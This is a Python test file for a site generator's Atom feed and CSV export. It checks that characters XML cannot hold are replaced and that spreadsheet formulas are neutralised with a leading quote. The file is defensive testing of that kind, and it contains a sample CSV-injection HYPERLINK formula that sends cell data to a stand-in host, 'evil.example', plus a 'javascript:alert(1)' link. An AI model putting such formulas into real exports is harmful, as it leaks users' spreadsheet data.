"""Open data stays valid whatever the text: the feed is well-formed XML, spreadsheet formulas in
the CSV are neutralised the way OWASP's CSV-injection guidance says."""

from __future__ import annotations

import csv
import dataclasses
import io
from xml.dom import minidom
from xml.etree import ElementTree

import pytest
from support import record
from unchecked_library import case_studies, catalogue, shipped_taxonomy

from generator.catalogue import Catalogue
from generator.render.feeds import Feed, atom_feed
from generator.render.tables import TABLES, table_csv

ATOM = "{http://www.w3.org/2005/Atom}"
NOT_XML = "\ufffe \uffff \x00 \x01 \x08 \ud800"


def feed_of(**fields: str) -> str:
    library = catalogue({"kent-control": record(**fields)})
    feed = Feed("feed.xml", "Casebook", "case-studies/index.md", library.records)
    return atom_feed(feed, library, "https://casebook.example/", "Casebook")


def library_csv(library: Catalogue, site_url: str, name: str = "case-studies") -> str:
    return table_csv(next(table for table in TABLES if table.name == name), library, site_url)


def test_characters_xml_cannot_hold_become_replacement_characters_and_the_feed_stays_well_formed() -> None:
    text = feed_of(title=f"Kent {NOT_XML} control", summary=f"Moved {NOT_XML} [moved](javascript:alert(1))")
    minidom.parseString(text.encode("utf-8"))  # expat: a real, strict XML parser
    entry = ElementTree.fromstring(text.encode("utf-8")).find(f"{ATOM}entry")
    assert entry is not None
    assert entry.findtext(f"{ATOM}title") == "Kent " + " ".join("\ufffd" * 6) + " control"
    assert entry.findtext(f"{ATOM}summary") == "Moved " + " ".join("\ufffd" * 6) + " [moved](javascript:alert(1))"


def test_characters_xml_allows_are_kept_as_they_are() -> None:
    kept = "Straße \x85 \x80 \t \U0001f6a8 \u202e <b>&amp;"
    entry = ElementTree.fromstring(feed_of(summary=kept).encode("utf-8")).find(f"{ATOM}entry")
    assert entry is not None and entry.findtext(f"{ATOM}summary") == " ".join(kept.split())


def rows(table: str = "case-studies", **fields: object) -> list[dict[str, str]]:
    """The rows of one table for one record whose fields are set as given, past the model's
    single-spacing (which would strip a leading tab): the writer must be safe on its own."""
    case_study = dataclasses.replace(case_studies({"kent-control": record()})[0], **fields)
    text = library_csv(Catalogue.published(shipped_taxonomy(), [case_study]), "https://casebook.example/", table)
    return list(csv.DictReader(io.StringIO(text)))


FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_starting_like_a_formula_is_prefixed_with_a_quote(start: str) -> None:
    row = rows(title=start + FORMULA[1:], summary=f"{start}1+2 in a summary")[0]
    assert row["title"] == "'" + start + FORMULA[1:]
    assert row["summary"].startswith("'")
    assert rows("areas", areas=(f"{start}Kent",))[0]["area"] == f"'{start}Kent"


def test_the_owasp_example_is_neutralised_and_quoted() -> None:
    text = library_csv(catalogue({"kent-control": record(title=FORMULA)}), "https://casebook.example/")
    assert '"\'=HYPERLINK(""https://evil.example/?x=""&A1,""Click"")"' in text
    assert next(csv.DictReader(io.StringIO(text)))["title"] == "'" + FORMULA


def test_numbers_stay_numbers_and_ordinary_text_is_untouched() -> None:
    row = rows(title="-5")[0]
    assert row["title"] == "-5"
    assert [row["area"] for row in rows("areas", areas=("Kent", "+44"))] == ["Kent", "+44"]
    assert row["slug"] == "kent-control" and row["started"] == "2012-03"


def test_number_cells_are_written_unquoted_and_never_guarded() -> None:
    case_study = case_studies({"kent-control": record()})[0]
    text = library_csv(Catalogue.published(shipped_taxonomy(), [case_study]), "https://casebook.example/",
                       "outcomes")
    assert text.splitlines()[1] == '"kent-control",1,"Savings reported by 2020-21",2000000,"gbp","",""'
